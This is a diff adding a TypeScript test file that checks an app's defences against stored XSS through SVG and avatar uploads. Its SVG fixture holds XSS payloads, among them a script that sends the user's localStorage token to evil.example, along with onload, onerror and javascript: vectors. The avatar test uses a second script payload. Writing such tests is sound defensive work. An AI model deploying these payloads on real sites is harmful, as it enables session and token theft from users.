@@ -1,0 +1,69 @@
+/**
+ * Stored XSS through uploads: an SVG with script is stored sanitised, every user file is served so that opened
+ * directly it loads and runs nothing, and an avatar whose bytes are not the image type declared is refused.
+ */
+import { beforeAll, describe, expect, it } from 'vitest';
+import type { FileUpload } from '@mapnest/shared/files';
+import { baseUrl, call, createUser, rawCall, type TestUser } from '../helpers/stack';
+import { postUpload, type PresignedPost } from '../helpers/accounts';
+
+let owner: TestUser;
+beforeAll(async () => {
+  owner = await createUser();
+});
+
+const EVIL_SVG = `<?xml version="1.0"?>
+<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="400" height="300" onload="alert(document.cookie)">
+  <script>fetch('https://evil.example/?t=' + localStorage.getItem('token'))</script>
+  <foreignObject width="100" height="100"><div xmlns="http://www.w3.org/1999/xhtml"><img src="x" onerror="alert(1)"/></div></foreignObject>
+  <a xlink:href="javascript:alert(2)"><rect id="room-1" width="10" height="10" fill="#0a0"/></a>
+  <use href="https://evil.example/sprite.svg#icon"/>
+  <text x="1" y="20">Ground floor</text>
+</svg>`;
+
+async function waitFor<T>(probe: () => Promise<T | null>, ms = 10_000): Promise<T> {
+  const until = Date.now() + ms;
+  for (;;) {
+    const value = await probe();
+    if (value !== null) return value;
+    if (Date.now() > until) throw new Error('timed out');
+    await new Promise((r) => setTimeout(r, 150));
+  }
+}
+
+describe('SVG uploads', () => {
+  it('stores an SVG with script sanitised: the shapes stay, scripts, handlers, foreign objects and external references go', async () => {
+    const body = Buffer.from(EVIL_SVG);
+    const post = await call<FileUpload>('createFileUpload', { fileName: 'plan.svg', contentType: 'image/svg+xml', size: body.length }, owner);
+    expect((await postUpload(post, body, 'image/svg+xml', 'plan.svg')).status).toBe(204);
+    const text = await waitFor(async () => {
+      const res = await fetch(`${baseUrl()}${post.fileUrl}`);
+      const t = res.status === 200 ? await res.text() : '';
+      return t && !t.includes('<script') ? t : null;
+    });
+    expect(text).toContain('id="room-1"');
+    expect(text).toContain('Ground floor');
+    expect(text).not.toMatch(/<script|onload|onerror|foreignObject|javascript:|evil\.example/i);
+  });
+
+  it('serves user files with a CSP that loads and runs nothing, sandboxed, and nosniff', async () => {
+    const body = Buffer.from('<svg xmlns="http://www.w3.org/2000/svg"><rect width="1" height="1"/></svg>');
+    const post = await call<FileUpload>('createFileUpload', { fileName: 'dot.svg', contentType: 'image/svg+xml', size: body.length }, owner);
+    expect((await postUpload(post, body, 'image/svg+xml', 'dot.svg')).status).toBe(204);
+    const res = await fetch(`${baseUrl()}${post.fileUrl}`);
+    expect(res.status).toBe(200);
+    expect(res.headers.get('content-security-policy')).toBe("default-src 'none'; style-src 'unsafe-inline'; sandbox");
+    expect(res.headers.get('x-content-type-options')).toBe('nosniff');
+  });
+});
+
+describe('avatars', () => {
+  it('refuses HTML bytes uploaded as image/png, and removes them', async () => {
+    const html = Buffer.from('<html><script>alert(document.domain)</script></html>');
+    const post = await call<PresignedPost>('createAvatarUpload', { fileName: 'me.png', contentType: 'image/png', size: html.length }, owner);
+    expect((await postUpload(post, html, 'image/png', 'me.png')).status).toBe(204);
+    const answer = await rawCall('setAvatar', { extension: 'png' }, { token: owner.token });
+    expect(answer.status).toBe(400);
+    expect((await fetch(`${baseUrl()}/files/${post.key}`)).status).toBe(404);
+  });
+});
